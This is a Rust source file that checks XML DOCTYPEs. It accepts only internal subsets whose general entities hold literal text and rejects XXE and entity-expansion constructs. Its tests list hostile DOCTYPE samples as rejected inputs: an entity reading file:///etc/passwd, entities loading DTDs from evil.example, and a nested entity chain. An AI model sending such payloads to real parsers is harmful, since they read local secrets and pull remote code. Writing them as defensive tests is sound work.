//! An XML body's DOCTYPE. One that declares external entities (`SYSTEM`,
//! `PUBLIC`: XXE), parameter entities or entities built of other entities
//! (the "billion laughs") is inspected as written, and its signs block it.
//! An internal subset of element and attribute declarations and of general
//! entities with literal text (`<!ENTITY id "tag:example.com,">`, as feeds
//! and DocBook write them) fetches and expands nothing: its literals are
//! data, and a reference to one is its literal in the text, as the
//! application reads it (`&id;` is no shell's `& id ;`).

/// The general entities, name and literal, of a DOCTYPE (the text
/// quick-xml gives after `<!DOCTYPE`) whose declarations fetch and expand
/// nothing; `None` when it declares anything else, or does not read as
/// declarations.
pub fn plain_entities(doctype: &str) -> Option<Vec<(&str, &str)>> {
    let open = doctype.find('[')?;
    let head = doctype.get(..open)?.to_ascii_uppercase();
    if head.contains("SYSTEM") || head.contains("PUBLIC") {
        return None;
    }
    let close = doctype.rfind(']').filter(|&close| close > open)?;
    if !doctype.get(close + 1..)?.trim().is_empty() {
        return None;
    }
    let mut rest = doctype.get(open + 1..close)?;
    let mut values = Vec::new();
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return Some(values);
        }
        if let Some(after) = rest.strip_prefix("<!--") {
            rest = after.get(after.find("-->")? + 3..)?;
        } else if let Some(after) = rest.strip_prefix("<!ENTITY") {
            let (entity, after) = general_entity(after)?;
            values.push(entity);
            rest = after;
        } else if let Some(after) = rest.strip_prefix("<!ELEMENT").or_else(|| rest.strip_prefix("<!ATTLIST"))
        {
            rest = declaration_end(after)?;
        } else {
            return None;
        }
    }
}

/// `name "literal">` after `<!ENTITY`: the name and literal, and what
/// follows the declaration. `None` for a parameter entity, an external one, or a
/// literal that refers to other entities or characters.
fn general_entity(declaration: &str) -> Option<((&str, &str), &str)> {
    let declaration = declaration.strip_prefix(|c: char| c.is_ascii_whitespace())?.trim_start();
    let name_len = declaration.find(|c: char| c.is_ascii_whitespace())?;
    let name = declaration.get(..name_len)?;
    if name.starts_with('%') {
        return None;
    }
    let literal = declaration.get(name_len..)?.trim_start();
    let quote = literal.chars().next().filter(|q| matches!(q, '"' | '\''))?;
    let len = literal.get(1..)?.find(quote)?;
    let value = literal.get(1..1 + len)?;
    let after = literal.get(len + 2..)?.trim_start().strip_prefix('>')?;
    (!value.contains(['&', '%'])).then_some(((name, value), after))
}

/// What follows an element or attribute-list declaration's `>`; `None`
/// when it refers to a parameter entity or does not close.
fn declaration_end(declaration: &str) -> Option<&str> {
    let mut quote = None;
    for (at, c) in declaration.char_indices() {
        match (quote, c) {
            (None, '>') => return declaration.get(at + 1..),
            (None, '%') => return None,
            (None, '"' | '\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::plain_entities;

    #[test]
    fn literal_entities_and_declarations_are_data() {
        let feed = " rss [\n  <!ENTITY id \"tag:example.com,\">\n]";
        assert_eq!(plain_entities(feed), Some(vec![("id", "tag:example.com,")]));
        let declarations =
            " note [<!ELEMENT note (to)><!ATTLIST note id CDATA \"a>b\"><!-- c --><!ENTITY e 'x'>]";
        assert_eq!(plain_entities(declarations), Some(vec![("e", "x")]));
    }

    #[test]
    fn what_fetches_or_expands_is_inspected_as_written() {
        for doctype in [
            " r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]",
            " r [<!ENTITY x PUBLIC \"-//x\" \"http://evil.example/x\">]",
            " r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]",
            " r [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">]",
            " r SYSTEM \"http://evil.example/x.dtd\" [<!ENTITY a \"x\">]",
            " r [<!ELEMENT r %p;>]",
            " r [<!NOTATION n SYSTEM \"x\">]",
            " r [<!ENTITY a \"x\"> <?pi?>]",
            " r SYSTEM \"x.dtd\"",
            " r [<!ENTITY a \"x\">",
        ] {
            assert_eq!(plain_entities(doctype), None, "{doctype}");
        }
    }
}
